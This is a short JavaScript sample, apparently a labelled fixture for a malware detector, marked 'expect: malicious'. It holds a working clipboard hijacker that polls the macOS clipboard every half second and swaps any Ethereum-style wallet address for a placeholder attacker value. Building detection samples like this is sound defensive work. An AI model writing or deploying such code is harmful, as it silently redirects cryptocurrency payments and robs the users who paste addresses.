// expect: malicious
const {execSync} = require('child_process');
const me = 'FAKE';
setInterval(() => {
  const t = execSync('pbpaste').toString();
  if (/^0x[a-fA-F0-9]{40}$/.test(t)) execSync(`printf '${me}' | pbcopy`);
}, 500);
